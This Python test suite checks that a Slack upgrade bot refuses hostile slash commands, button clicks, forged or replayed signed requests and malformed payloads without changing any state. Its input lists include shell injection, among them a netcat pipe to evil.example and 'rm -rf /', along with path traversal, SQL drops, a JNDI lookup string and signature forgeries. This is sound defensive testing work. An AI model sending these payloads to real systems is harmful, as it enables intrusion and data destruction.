"""Hostile input against the real bot over signed HTTP: every case is refused, and refusing changes nothing.

Each test starts one bot (the `slack_bot` harness: real Bolt over HTTP, the Slack stand-in, a simulated WinRM
host) in a known state and sends it hundreds of cases:

- a finished run (cancelled by its requester) with a granted STARTTLS approval and a cancelled console
  confirmation;
- an active run waiting on an open STARTTLS approval (the hostile cases must not decide or cancel it).

For every case: no crash (HTTP 200 or 401, never 500; no ERROR logged by anyone), no state change (runs,
steps, approvals and decisions identical; the audit trail grows only by ``approval.refused``, and only for
a click by someone who may not decide on the REAL open approval), no request to the host, no message in the
channel, and for 200 answers one ephemeral reply that is a clear refusal (or the read-only answer of
`status`, `history`, `help`): not empty, no stack trace, no secret, no mention echoed back.

Outside text the bot shows (directory names from Workspace ONE Access, what the host reports) is sent
by the stand-ins and must reach Slack only escaped: no mention, command or link the bot did not write.

Slack's signature scheme accepts a replay of a captured request within its 5-minute window (no nonce), so the
bot remembers every request it accepted (bot.store.inbox): a replay within the window is answered 200 with an
empty body, does nothing, gets no reply and is audited as ``request.refused``. The same request captured more
than 5 minutes earlier is 401.
"""

from __future__ import annotations

import asyncio
import json
import logging
import re
import sqlite3
import time
import unicodedata
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from urllib.parse import quote, urlencode

import aiohttp
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bot.core.gates import gate_named
from bot.core.models import ApprovalState, RunState
from sandbox.slack_sender import SignedRequest, SlackHttpResult, block_actions_payload, signature_for
from sandbox.slack_state import APPROVER, GENERAL_CHANNEL, GROUP_MEMBER, OPS_CHANNEL, OUTSIDER, REQUESTER
from tests.reliability.results import record
from tests.slack import conftest as slack_conftest
from tests.slack.conftest import SIGNING_SECRET, Harness
from tests.support.waiting import eventually

slack_bot = slack_conftest.slack_bot  # the Slack harness fixture of tests/slack, used here too

RESULTS = "hostile_input"
DECIDE_ACTIONS = ("approve", "deny", "snapshot_taken")
BUTTON_ACTIONS = (*DECIDE_ACTIONS, "cancel_run")
TABLES = ("runs", "steps", "approvals", "decisions")
REPLY_SECONDS = 30.0  # how long a case waits for the bot's ephemeral reply (a busy machine is slow)

# What a refusal (or a read-only answer) says; every 200 answer must match one and none of FORBIDDEN.
REFUSAL = re.compile(
    "|".join(
        [
            r"is not a host name",
            r"^Unknown hosts? `",
            r"^Which host\?",
            r"characters; the command takes host names",
            r"hosts in one request; the limit is",
            r"is not a run id",
            r"^`(cancel|status)` takes",
            r"^`history` takes at most one host",
            r"^`check` needs at least one host",
            r"^A host is named more than once",
            r"^Not started: ",
            r"^Not accepted: ",
            r"^There is no run ",
            r"^Run run-[0-9a-f]{8} already ended",
            r"^This button does not belong to an idm-upgrade (request|run)\.$",
            r"^There is no approval request ",
            r"request is already (granted|denied|expired|cancelled)",
        ]
    )
)
ANSWER = re.compile(
    r"^Usage: |^No upgrade is running\.$|^No runs yet|^\S+ `run-[0-9a-f]{8}` host01: |^\S+ \d{4}-\d\d-\d\d "
)
FORBIDDEN = re.compile(
    r"queued|approved for|confirmed for|Cancelling run|cancelled before it started|Approval recorded|the run stops|Follow it in"
)
STACK_TRACE = re.compile(r"Traceback|File \"|\b[A-Z]\w*(Error|Exception)\b")

# Look-alike letters an attacker would use for "host01" (Cyrillic and Greek), mapped to the Latin letter.
CONFUSABLES = str.maketrans(
    {
        "а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "х": "x", "у": "y", "і": "i", "ѕ": "s", "һ": "h",
        "ԁ": "d", "ӏ": "l", "Һ": "h", "Т": "t", "ο": "o", "α": "a", "ε": "e", "ι": "i", "τ": "t", "ѵ": "v",
        "ν": "v", "κ": "k", "η": "n", "Ο": "o", "ℎ": "h", "Ӏ": "l", "ꮪ": "s",
    }
)  # fmt: skip


# -- the bot in a known state ---------------------------------------------------------------------------


@dataclass
class World:
    h: Harness
    finished_run: str  # cancelled by its requester
    granted_approval: str  # of finished_run
    cancelled_confirmation: str  # of finished_run
    run: str  # active: waiting for approval
    approval: str  # open STARTTLS approval of `run`
    approval_ts: str  # the message with its buttons
    card_ts: str  # the run's card (Cancel run button)

    @property
    def real_ids(self) -> set[str]:
        return {self.finished_run, self.granted_approval, self.cancelled_confirmation, self.run, self.approval}


def delivered_request(h: Harness, run_id: str, gate: str):
    """The open request for `gate` in `run_id` once its button is in the channel."""
    for approval in h.store.approvals(run_id):
        if approval.gate == gate and approval.state is ApprovalState.open:
            action = gate_named(gate).button  # "Done" on a console request
            found = h.slack.latest_button(OPS_CHANNEL, action, value=approval.id)
            if found:
                return approval, found[0]
    return None


async def build_world(slack_bot) -> World:
    h = await slack_bot("physical", ws1=False, extra=f'slack: requesters = ["{REQUESTER}"]')
    # a finished run: STARTTLS granted, then cancelled by its requester while the console change is asked
    assert (await h.sender.send_slash_command(REQUESTER, "host01")).status == 200
    # the HTTP answer is Bolt's ack: the run is created after it
    [first] = await eventually(h.runs, what="the first run")
    granted, message = await eventually(
        lambda: delivered_request(h, first.id, "STARTTLS"), what="first STARTTLS request"
    )
    await h.sender.click_button(APPROVER, "approve", value=granted.id, message_ts=message.ts)
    console, _ = await eventually(lambda: delivered_request(h, first.id, "STARTTLS console"), what="console request")
    await h.sender.send_slash_command(REQUESTER, f"cancel {first.id}")
    await eventually(lambda: not h.store.get_run(first.id).state.active, timeout=60, what="the first run to end")
    # the active run, waiting on its STARTTLS approval
    assert (await h.sender.send_slash_command(REQUESTER, "host01")).status == 200
    run = await eventually(lambda: next((r for r in h.runs() if r.id != first.id), None), what="the second run")
    approval, message = await eventually(lambda: delivered_request(h, run.id, "STARTTLS"), what="the STARTTLS request")
    card, _ = h.slack.latest_button(OPS_CHANNEL, "cancel_run", value=run.id)
    assert await h.bot.progress.idle(timeout=30)
    assert h.store.get_run(first.id).state is RunState.cancelled
    assert h.store.get_approval(console.id).state is ApprovalState.cancelled
    return World(h, first.id, granted.id, console.id, run.id, approval.id, message.ts, card.ts)


# -- one case: send, then check everything ---------------------------------------------------------------


class Probe:
    """Sends cases and checks each one; collects problems instead of stopping at the first (strict: raise)."""

    def __init__(self, world: World, caplog: pytest.LogCaptureFixture, *, strict: bool = False):
        self.w, self.h, self.caplog, self.strict = world, world.h, caplog, strict
        self.db = sqlite3.connect(f"file:{world.h.store.path}?mode=ro", uri=True, check_same_thread=False)
        self.counts: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.refusals_audited = 0
        self.problems: list[str] = []
        # (case, response_url id, posts there before it) of rejected requests; a replay shares its original's
        self.unanswered: list[tuple[str, str, int]] = []
        self.host_requests = len(world.h.host.requests)
        self.started = time.monotonic()
        self.notes: list[str] = []
        self.finished = False

    def close(self) -> None:
        self.db.close()

    # -- state -------------------------------------------------------------------------------------

    def tables(self) -> dict[str, list[tuple]]:
        return {t: self.db.execute(f"SELECT * FROM {t} ORDER BY rowid").fetchall() for t in TABLES}

    def audit_size(self) -> int:
        return self.db.execute("SELECT count(*) FROM audit").fetchone()[0]

    def audit_after(self, size: int) -> list[tuple[str, str, str]]:
        rows = self.db.execute("SELECT actor, event, detail FROM audit WHERE seq > ? ORDER BY seq", (size,))
        return [(actor, event, json.loads(detail).get("approval_id", "")) for actor, event, detail in rows]

    def channel(self) -> list[tuple[str, int]]:
        return [(m.ts, len(m.versions)) for m in self.h.slack.messages(OPS_CHANNEL)]

    def errors(self) -> list[logging.LogRecord]:
        return [r for r in self.caplog.records if r.levelno >= logging.ERROR]

    # -- cases -------------------------------------------------------------------------------------

    async def command(self, category: str, user: str, text: str, **kw) -> SlackHttpResult:
        return await self.case(
            category, f"{user} /idm-upgrade {text!r}", lambda: self.h.sender.send_slash_command(user, text), **kw
        )

    async def click(self, category: str, user: str, action_id: str, value: str, **kw) -> SlackHttpResult:
        message_ts = self.w.card_ts if action_id == "cancel_run" else self.w.approval_ts
        refused_on_real = action_id in DECIDE_ACTIONS and value == self.w.approval and user != APPROVER
        kw.setdefault("audited_refusal_by", user if refused_on_real else None)
        return await self.case(
            category,
            f"{user} clicks {action_id}={value[:60]!r}",
            lambda: self.h.sender.click_button(user, action_id, value=value, message_ts=message_ts),
            **kw,
        )

    async def case(
        self,
        category: str,
        name: str,
        send: Callable[[], Awaitable[SlackHttpResult]],
        *,
        expect: tuple[int, ...] = (200,),
        audited_refusal_by: str | None = None,
        audited_replay_by: str | None = None,
        reply_expected: bool | None = None,
    ) -> SlackHttpResult:
        label = f"{category}: {name[:160]}"
        before, audit_size, channel, errors = self.tables(), self.audit_size(), self.channel(), len(self.errors())
        replies_before = {rid: len(r.posts) for rid, r in self.h.slack.response_urls.items()}
        result = await send()
        problems: list[str] = []
        self.counts[category] += 1
        self.statuses[str(result.status)] += 1
        if result.status not in expect:
            problems.append(f"HTTP {result.status} (expected {expect}): {result.body[:200]!r}")
        rid = str(result.sent_payload.get("response_url", "")).rsplit("/", 1)[-1]
        wants_reply = result.status == 200 if reply_expected is None else reply_expected
        if wants_reply:
            # a replay reuses the original's response_url: wait for this request's own answer, not the original's
            reply = await self.reply(rid, after=replies_before.get(rid, 0))
            if reply is None:
                problems.append(f"no reply reached the user within {REPLY_SECONDS} s")
            else:
                problems += self.unclear(reply, result)
        elif rid:
            self.unanswered.append((label, rid, replies_before.get(rid, 0)))
        # nothing changed
        after = self.tables()
        for table in TABLES:
            if after[table] != before[table]:
                problems.append(f"table {table} changed")
        added = self.audit_after(audit_size)
        wanted = [(audited_refusal_by, "approval.refused", self.w.approval)] if audited_refusal_by else []
        wanted += [(audited_replay_by, "request.refused", "")] if audited_replay_by else []
        if added != wanted:
            problems.append(f"audit rows added {added}, expected {wanted}")
        self.refusals_audited += len(added) if added == wanted else 0
        if len(self.h.host.requests) != self.host_requests:
            problems.append(f"{len(self.h.host.requests) - self.host_requests} request(s) to the host")
            self.host_requests = len(self.h.host.requests)
        if self.channel() != channel:
            problems.append("the channel changed")
        if new_errors := self.errors()[errors:]:
            problems += [f"ERROR logged by {r.name}: {r.getMessage()[:200]}" for r in new_errors]
        for problem in problems:
            self.fail(f"{label}: {problem}")
        return result

    async def reply(self, rid: str, timeout: float = REPLY_SECONDS, after: int = 0) -> dict | None:
        """The bot's answer at response_url ``rid`` that comes after the first ``after`` posts there."""
        record_ = self.h.slack.response_urls.get(rid)
        if record_ is None:
            return None
        try:
            await eventually(
                lambda: len(record_.posts) > after, timeout=timeout, interval=0.002, what="the bot's reply"
            )
        except AssertionError:
            return None  # the caller records it as a problem
        return record_.posts[after].body

    def unclear(self, body: dict, result: SlackHttpResult) -> list[str]:
        """What makes this reply less than a clear, safe refusal (empty list: it is one)."""
        problems = []
        text = str(body.get("text") or "")
        payload = result.sent_payload
        sent = str(payload.get("text") or (payload.get("actions") or [{}])[0].get("value") or "")
        if body.get("response_type") != "ephemeral" or body.get("replace_original"):
            problems.append(f"not an ephemeral reply: {body}")
        if not text.strip():
            problems.append("empty reply")
        if len(text) > 3000:
            problems.append(f"reply of {len(text)} characters")
        if STACK_TRACE.search(text):
            problems.append(f"stack trace or exception name in the reply: {text[:200]!r}")
        own_channel = text.replace(f"<#{OPS_CHANNEL}>", "")  # a refusal may point to the bot's channel
        # the bot may name the people it recorded itself (the deciders, who asked to cancel): Slack-verified ids
        # that Slack shows as names, notifying nobody in an ephemeral reply; a mention of anyone else came in
        if "<!" in text or "<#" in own_channel or set(re.findall(r"<@([^>|]*)", text)) - {REQUESTER, APPROVER}:
            problems.append(f"a mention in the reply: {text[:200]!r}")
        for mention in re.findall(r"<[@!#][^>]*>", sent):
            if mention in text:
                problems.append(f"echoes {mention}")
        if SIGNING_SECRET in text or self.h.host.password in text or "xoxb-" in text:
            problems.append("a secret in the reply")
        if not (REFUSAL.search(text) or ANSWER.search(text)) or FORBIDDEN.search(text):
            problems.append(f"not a refusal: {text[:200]!r}")
        return problems

    def fail(self, problem: str) -> None:
        if self.strict:
            raise AssertionError(problem)
        self.problems.append(problem)

    # -- end of a test -----------------------------------------------------------------------------

    async def finish(self, section: str, **figures) -> None:
        self.finished = True
        # Every case's HTTP answer came back and every answered case's reply arrived before this (the
        # positive signals that the bot handled what it was sent); the short settle only gives a rejected
        # request's wrongly started work the moment it would need to show.
        await asyncio.sleep(0.3)
        for label, rid, before in self.unanswered:
            record_ = self.h.slack.response_urls.get(rid)
            if record_ is not None and len(record_.posts) > before:
                self.fail(f"{label}: rejected, yet the bot answered {record_.posts[before].body}")
        run = self.h.store.get_run(self.w.run)
        if run.state is not RunState.waiting_approval or run.cancel_requested_by:
            self.fail(f"the active run changed: {run.state} cancel_requested_by={run.cancel_requested_by}")
        if self.h.store.get_approval(self.w.approval).state is not ApprovalState.open:
            self.fail("the open approval was decided")
        if len(self.h.host.requests) != self.host_requests:
            self.fail("the host was contacted")
        seconds = round(time.monotonic() - self.started, 2)
        path = record(
            RESULTS,
            section,
            {
                "cases": sum(self.counts.values()),
                "by_category": dict(self.counts),
                "http_status": dict(self.statuses),
                "refusals_audited": self.refusals_audited,
                "problems": len(self.problems),
                "seconds": seconds,
                **figures,
            },
        )
        print(f"\n{section}: {sum(self.counts.values())} cases {dict(self.counts)} in {seconds} s -> {path}")
        for note in self.notes:
            print(f"  note: {note}")
        assert not self.problems, f"{len(self.problems)} problem(s):\n" + "\n".join(self.problems[:60])


@pytest.fixture
async def probe(slack_bot, caplog, request):
    """The bot in its known state and a Probe on it. A test that did not call finish() is finished here."""
    world = await build_world(slack_bot)
    p = Probe(world, caplog)
    yield p
    try:
        if not p.finished:
            await p.finish(request.node.originalname.removeprefix("test_"))
    finally:
        p.close()


# -- the corpus ------------------------------------------------------------------------------------------

HOST_LIKE = [
    # shell and PowerShell injection
    "host01;whoami",
    "host01; whoami",
    "host01&&whoami",
    "host01 && rm -rf /",
    "host01|nc evil.example 4444",
    "host01||true",
    "$(whoami)",
    "$(x)",
    "${IFS}host01",
    "`id`",
    "host01`id`",
    "host01$(id)",
    "host01;Restart-Computer -Force",
    "-ComputerName evil",
    "host01\t-ComputerName evil",
    "@(host01)",
    # paths and addresses
    "../host01",
    "../../etc/passwd",
    "..\\..\\Windows\\System32",
    "host01/../host02",
    "\\\\evil\\share",
    "C:\\Windows",
    "host01.example.com",
    "host01:5986",
    "http://host01",
    "host01@evil.example",
    "127.0.0.1",
    "[::1]",
    # quotes, newlines, NUL and other control characters
    "'host01'",
    '"host01"',
    "host01'",
    'host01"',
    "host01\nwhoami",
    "host01\r\nwhoami",
    "host01\x00",
    "host01\x00whoami",
    "\x00",
    "\x1b[31mhost01",
    "host01\x7f",
    "host01\x08\x08\x08\x08\x08\x08host02",
    # SQL-ish
    "'; DROP TABLE runs;--",
    "host01' OR '1'='1",
    '"; DROP TABLE approvals; --',
    "1; DELETE FROM audit",
    "host01); UPDATE approvals SET state='granted';--",
    # Slack markup: mentions, broadcasts, links
    "<@U0APPROVER1>",
    "<@U0REQUESTER|rita>",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S0APPROVERS>",
    "<#C0OPSCHANL>",
    "<https://evil.example|host01>",
    "*host01*",
    "~host01~",
    # emoji
    ":rocket:",
    "🚀",
    "host01🚀",
    "👍🏽",
    # look-alikes: Cyrillic, Greek, full-width, mathematical
    "hоst01",  # Cyrillic o
    "һost01",  # Cyrillic shha
    "hoѕt01",  # Cyrillic dze
    "hοst01",  # Greek omicron
    "host0１",  # full-width digit one
    "ｈｏｓｔ０１",  # full-width
    "𝐡𝐨𝐬𝐭𝟎𝟏",  # mathematical bold
    "ℎost01",  # Planck constant
    "HOST01\u0301",  # combining acute accent
    # invisible: zero-width, soft hyphen, BOM, bidi overrides
    "host01\u200d",
    "\u200bhost01",
    "host\u200c01",
    "host\u00ad01",
    "host\ufeff01",
    "\u202ehost01",
    "host01\u202e10tsoh",
    "\u2066host01\u2069",
    "\u202dhost01\u202c",
    # templates and format strings
    "%s%s%s%n",
    "{0}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "*",
    "host0[1-2]",
    # oversized
    "a" * 64,
    "x" * 10_000,
    "y" * 100_000,
]

WHOLE_TEXTS = [
    "",
    " ",
    "\n",
    "\t\t",
    "help me with <!channel>",
    "HELP",
    "check",
    "cancel",
    "status run-00000000 run-00000001",
    "status RUN-0000000A",
    "cancel run-00000000",
    "cancel run-0000000",
    "cancel run-000000000",
    "cancel apr-00000000",
    "history host01 host01",
    "history hostXX",
    "check host01 host01",
    "host01 host01",
    "host01 host99",
    "hostXX",
    "upgrade host01",
    "rollback host01",
    "approve apr-00000000",
    "sudo host01",
    "/idm-upgrade host01",
    "host01,host02",
    "host01 " * 3000,
    " ".join(f"h{i}" for i in range(200)),
    " ".join(["host01"] * 21),
    "status " + "x" * 10_000,
    "cancel " + "run-00000000 " * 500,
    "\u202ecancel run-00000000",
    "check\u00a0host01",  # no-break space
    "check\u3000host01",  # ideographic space
]


def id_texts(w: World) -> list[tuple[str, list[str]]]:
    """Commands naming real runs and approvals, with who may send them without changing anything."""
    nobody = [OUTSIDER, GROUP_MEMBER]  # neither the requester nor an approver
    anyone = [OUTSIDER, REQUESTER, APPROVER, GROUP_MEMBER]
    return [
        (f"cancel {w.run}", nobody),
        (f"CANCEL {w.run}", nobody),
        (f"cancel {w.run} {w.run}", anyone),
        (f"cancel {w.run};whoami", anyone),
        (f"cancel {w.run.upper()}", anyone),
        (f"cancel {w.run.replace('-', '‐')}", anyone),  # a Unicode hyphen
        (f"cancel {w.finished_run}", anyone),
        (f"cancel {w.approval}", anyone),
        (f"cancel {w.granted_approval}", anyone),
        (f"status {w.run}", anyone),
        (f"status {w.finished_run}", anyone),
        (f"status {w.approval}", anyone),
        (f"history {w.run}", anyone),
        (f"{w.run}", anyone),
        (f"check {w.approval}", anyone),
        ("status", anyone),
        ("history", anyone),
        ("history host01", anyone),
        ("help", anyone),
        ("host01", anyone),  # the requester: host01 is busy; everyone else: not a requester
        ("check host01", anyone),
        ("HOST01", anyone),
    ]


def button_values(w: World) -> list[str]:
    return [
        w.approval,
        w.granted_approval,
        w.cancelled_confirmation,
        w.run,
        w.finished_run,
        "",
        " ",
        "apr-",
        "apr-0000000",
        "apr-000000000",
        "apr-00000000",
        "APR-" + w.approval[4:],
        w.approval.upper(),
        f" {w.approval}",
        f"{w.approval} ",
        f"{w.approval}\n",
        f"{w.approval};whoami",
        f"{w.approval}\x00",
        w.approval.replace("a", "а"),  # Cyrillic a
        "apr-zzzzzzzz",
        "run-zzzzzzzz",
        "run-00000000",
        f"{w.run}\n",
        json.dumps({"approval_id": w.approval, "decision": "approve"}),
        json.dumps([w.approval]),
        "null",
        "undefined",
        "'; DROP TABLE approvals;--",
        "<@U0APPROVER1>",
        "<!channel>",
        "../apr-00000000",
        "$(whoami)",
        "`id`",
        "🚀",
        "\u202e" + w.approval,
        "v" * 10_000,
        "w" * 100_000,
    ]


def may_send(w: World, user: str, action_id: str, value: str) -> bool:
    """Clicks that would legitimately change something are not hostile input: leave them out."""
    if user == APPROVER and action_id in DECIDE_ACTIONS and value == w.approval:
        return False
    return not (user in (REQUESTER, APPROVER) and action_id == "cancel_run" and value == w.run)


# -- the tests -------------------------------------------------------------------------------------------


async def test_hostile_slash_commands_are_refused_and_change_nothing(probe):
    w = probe.w
    for prefix in ("", "check ", "history ", "status ", "cancel "):
        for text in HOST_LIKE:
            for user in (OUTSIDER, REQUESTER):
                await probe.command(f"command:{prefix.strip() or 'upgrade'}", user, prefix + text)
    for text in WHOLE_TEXTS:
        for user in (OUTSIDER, REQUESTER):
            await probe.command("command:whole", user, text)
    for text, users in id_texts(w):
        for user in users:
            await probe.command("command:ids-of-other-runs", user, text)
    await probe.finish("slash_commands")


async def test_hostile_button_values_are_refused_and_change_nothing(probe):
    w = probe.w
    for action_id in BUTTON_ACTIONS:
        for value in button_values(w):
            for user in (OUTSIDER, REQUESTER, APPROVER):
                if may_send(w, user, action_id, value):
                    await probe.click(f"button:{action_id}", user, action_id, value)
    # the real buttons, clicked by people who may not use them (each audited as approval.refused)
    for user in (OUTSIDER, REQUESTER, GROUP_MEMBER):
        for action_id in DECIDE_ACTIONS:
            await probe.click("button:real-request-by-non-approver", user, action_id, w.approval)
    await probe.click("button:real-card-by-outsider", OUTSIDER, "cancel_run", w.run)
    await probe.finish("buttons")


COMMAND_TEXT = st.one_of(
    st.text(max_size=300),
    st.text(
        alphabet=st.sampled_from([*"host01;$()`&|<>@!#'\"\\/.:- \n\t*", "\u202e", "\u200d", "о", "ο", "１", "\x00"]),
        max_size=40,
    ),
    st.lists(
        st.sampled_from(
            ["host01", "check", "status", "cancel", "history", "help", "run-00000000", "apr-00000000", "<!channel>"]
        ),
        max_size=5,
    ).map(" ".join),
)
USERS = st.sampled_from([OUTSIDER, REQUESTER, APPROVER, GROUP_MEMBER])
HYPOTHESIS = settings(
    max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@HYPOTHESIS
@given(text=COMMAND_TEXT, user=USERS)
async def test_generated_command_texts_are_refused_or_answered_read_only(probe, text, user):
    probe.strict = True  # let Hypothesis shrink a failing text
    await probe.command("command:hypothesis", user, text)


BUTTON_VALUE = st.one_of(
    st.text(max_size=120),
    st.from_regex(r"\A(apr|run)-[0-9a-f]{8}\Z"),
    st.from_regex(r"\A(apr|run)-[0-9a-fA-Z]{6,10}\s?\Z"),
    st.builds(json.dumps, st.dictionaries(st.text(max_size=10), st.text(max_size=20), max_size=3)),
)


@HYPOTHESIS
@given(action_id=st.sampled_from(BUTTON_ACTIONS), value=BUTTON_VALUE, user=USERS)
async def test_generated_button_values_are_refused(probe, action_id, value, user):
    probe.strict = True
    assume(value.strip() not in probe.w.real_ids)
    await probe.click("button:hypothesis", user, action_id, value)


# -- signatures, timestamps, replays ---------------------------------------------------------------------


def would_change_state(w: World, h: Harness) -> dict[str, tuple[dict, Callable]]:
    """Two requests that WOULD change state if the bot accepted them: the requester's cancel, an approval."""
    from sandbox.slack_sender import slash_command_fields

    cancel = slash_command_fields(h.slack, REQUESTER, f"cancel {w.run}")
    approve = block_actions_payload(h.slack, APPROVER, "approve", w.approval, w.approval_ts)
    return {
        "requester-cancel": (cancel, lambda fields: urlencode(fields).encode()),
        "approver-approve": (approve, lambda payload: urlencode({"payload": json.dumps(payload)}).encode()),
    }


def signed(h: Harness, body: bytes, timestamp: str | None = None, **headers: str) -> SignedRequest:
    ts = str(int(time.time())) if timestamp is None else timestamp
    base = {
        "Content-Type": "application/x-www-form-urlencoded",
        "X-Slack-Request-Timestamp": ts,
        "X-Slack-Signature": signature_for(SIGNING_SECRET, ts, body),
    }
    return SignedRequest(f"{h.bot.url}/slack/events", body, {**base, **headers})


def forgeries(h: Harness, body: bytes) -> dict[str, SignedRequest]:
    now = int(time.time())
    good = signed(h, body)
    ts = good.timestamp
    other = signature_for("another-apps-signing-secret", ts, body)
    without = {k: v for k, v in good.headers.items() if k != "X-Slack-Signature"}
    no_ts = {k: v for k, v in good.headers.items() if k != "X-Slack-Request-Timestamp"}
    url = good.url
    return {
        "zero signature": signed(h, body, **{"X-Slack-Signature": "v0=" + "0" * 64}),
        "another app's secret": signed(h, body, **{"X-Slack-Signature": other}),
        "signature of another body": signed(h, body, **{"X-Slack-Signature": signed(h, body + b"&x=1").headers["X-Slack-Signature"]}),
        "body changed after signing": SignedRequest(url, body.replace(b"U0", b"U9"), good.headers),
        "body extended after signing": SignedRequest(url, body + b"&text=host01", good.headers),
        "v1 prefix": signed(h, body, **{"X-Slack-Signature": "v1=" + good.headers["X-Slack-Signature"][3:]}),
        "upper-case hex": signed(h, body, **{"X-Slack-Signature": good.headers["X-Slack-Signature"].upper()}),
        "truncated signature": signed(h, body, **{"X-Slack-Signature": good.headers["X-Slack-Signature"][:-2]}),
        "empty signature": signed(h, body, **{"X-Slack-Signature": ""}),
        "no signature header": SignedRequest(url, body, without),
        "no timestamp header": SignedRequest(url, body, no_ts),
        "timestamp header differs from the signed one": SignedRequest(
            url, body, {**good.headers, "X-Slack-Request-Timestamp": str(now + 1)}
        ),
        "stale by 301 s": signed(h, body, str(now - 301)),
        "stale by 10 min": signed(h, body, str(now - 600)),
        "stale by a day": signed(h, body, str(now - 86_400)),
        "timestamp 0": signed(h, body, "0"),
        "negative timestamp": signed(h, body, "-1"),
        "future by 10 min": signed(h, body, str(now + 600)),
        "timestamp far in the future": signed(h, body, "99999999999999999999"),
        "signed with a timestamp, sent with another": SignedRequest(
            url, body, {**signed(h, body, str(now - 600)).headers, "X-Slack-Request-Timestamp": ts}
        ),
    }  # fmt: skip


async def test_forged_stale_and_replayed_requests(probe):
    """Forged signatures and stale timestamps are 401 and change nothing, even on requests that would act."""
    w, h = probe.w, probe.h
    for kind, (payload, encode) in would_change_state(w, h).items():
        body = encode(payload)
        assert b"U0" in body  # "body changed after signing" changes a user id
        for name, request in forgeries(h, body).items():
            await probe.case(
                f"signature:{kind}",
                name,
                lambda r=request, p=payload: h.sender.replay(r, sent_payload=p),
                expect=(401,),
            )
        # a request captured more than 5 minutes ago, replayed now: Bolt rejects it
        for age in (301, 900, 3600):
            captured = signed(h, body, str(int(time.time()) - age))
            await probe.case(
                f"replay:{kind}",
                f"captured {age} s ago",
                lambda r=captured, p=payload: h.sender.replay(r, sent_payload=p),
                expect=(401,),
            )
    # replays within Slack's 5-minute window pass the signature check (the scheme has no nonce); the bot
    # remembers what it accepted: a copy is refused quietly (no reply, not even the refusal again) and audited
    refused = [
        await probe.command("replay:original", OUTSIDER, f"cancel {w.run}"),
        await probe.command("replay:original", REQUESTER, "host01;whoami"),
        await probe.click("replay:original", OUTSIDER, "approve", w.approval),
        await probe.click("replay:original", APPROVER, "approve", w.granted_approval),
    ]
    for original in refused:
        for _ in range(3):
            payload = original.sent_payload
            user = payload.get("user_id") or payload.get("user", {}).get("id")
            await probe.case(
                "replay:within-window",
                f"replay of {json.dumps(payload)[:80]}",
                lambda o=original: h.sender.replay(o.request, sent_payload=o.sent_payload),
                audited_replay_by=user,
                reply_expected=False,
            )
    probe.notes.append(
        "a replay within Slack's 5-minute window passes the signature check (no nonce); the bot refuses it "
        "as already received (no reply, nothing changed) and audits it as request.refused"
    )
    await probe.finish("signatures_and_replays")


# -- requests from elsewhere: another workspace, organization, app, channel, message ----------------------

ELSEWHERE = {
    "another workspace": {"team_id": "T0ELSEWHRE"},
    "another organization": {"enterprise_id": "E0ELSEWHRE"},
    "another app": {"api_app_id": "A0OTHERAPP"},
    "a direct message": {"channel_id": "D0DIRECTMS"},
    "another channel": {"channel_id": GENERAL_CHANNEL},
}


def click_from_elsewhere(payload: dict, where: str, w: World) -> dict:
    payload = json.loads(json.dumps(payload))
    if where == "another workspace":
        payload["team"] = {"id": "T0ELSEWHRE", "domain": "elsewhere"}
    elif where == "another organization":
        payload["enterprise"] = {"id": "E0ELSEWHRE", "name": "Elsewhere"}
    elif where == "another app":
        payload["api_app_id"] = "A0OTHERAPP"
    elif where == "another channel":
        payload["channel"], payload["container"]["channel_id"] = {"id": GENERAL_CHANNEL}, GENERAL_CHANNEL
    else:  # another message: the run's card
        payload["container"]["message_ts"] = payload["message"]["ts"] = w.card_ts
    return payload


async def test_requests_from_elsewhere_change_nothing(probe):
    """Commands that would act (the requester's cancel of the active run, a new upgrade) and the approver's
    click on the open request, each from another workspace, organization, app or channel (or a DM; for the
    click, another message): an ephemeral refusal, nothing changed; the click is audited (approval.refused)."""
    from sandbox.slack_sender import slash_command_fields

    w, h = probe.w, probe.h
    for where, changes in ELSEWHERE.items():
        for text in (f"cancel {w.run}", "host01"):
            fields = {**slash_command_fields(h.slack, REQUESTER, text), **changes}
            request = h.sender.build(fields)
            await probe.case(
                "elsewhere:command", f"{where}: {text}", lambda r=request, f=fields: h.sender.replay(r, sent_payload=f)
            )
    for where in ("another workspace", "another organization", "another app", "another channel", "another message"):
        for action_id in ("approve", "deny"):
            payload = click_from_elsewhere(
                block_actions_payload(h.slack, APPROVER, action_id, w.approval, w.approval_ts), where, w
            )
            request = h.sender.build({"payload": json.dumps(payload)})
            await probe.case(
                "elsewhere:click",
                f"{where}: approver clicks {action_id}",
                lambda r=request, p=payload: h.sender.replay(r, sent_payload=p),
                audited_refusal_by=APPROVER,
            )
    await probe.finish("requests_from_elsewhere")


# -- defects found by this suite (they fail until fixed; see the report) ---------------------------------


async def raw_post(h: Harness, body: bytes, headers: dict[str, str]) -> SlackHttpResult:
    request = SignedRequest(f"{h.bot.url}/slack/events", body, headers)
    async with (
        aiohttp.ClientSession() as session,
        session.post(request.url, data=body, headers=headers) as response,
    ):
        text = await response.text()
        return SlackHttpResult(response.status, text, dict(response.headers), request, 0.0, {})


def malformed_bodies(w: World, h: Harness) -> dict[str, bytes]:
    good = block_actions_payload(h.slack, OUTSIDER, "approve", "apr-00000000", w.approval_ts)
    form = lambda payload: b"payload=" + quote(payload).encode()  # noqa: E731
    return {
        "payload not JSON": b"payload=notjson",
        "payload empty": b"payload=",
        "payload a JSON list": form("[]"),
        "payload a JSON number": form("1"),
        "payload JSON null": form("null"),
        "payload a JSON string": form('"block_actions"'),
        "payload truncated JSON": form(json.dumps(good)[:-20]),
        "payload nested 20000 deep": form("[" * 20_000),  # 60 KB: under the 128 KiB body limit
        "body not UTF-8": b"payload=\xff\xfe\xfd",
        "payload with actions not a list": form(json.dumps({**good, "actions": "approve"})),
        "payload with an empty action": form(json.dumps({**good, "actions": [{}]})),
        "payload with a value object": form(
            json.dumps({**good, "actions": [{**good["actions"][0], "value": {"id": w.approval}}]})
        ),
        "payload with user not an object": form(json.dumps({**good, "user": "U0APPROVER1"})),
        "payload of type view_submission": form(json.dumps({**good, "type": "view_submission"})),
        "payload of an unknown type": form(json.dumps({**good, "type": "x" * 1000})),
        "empty body": b"",
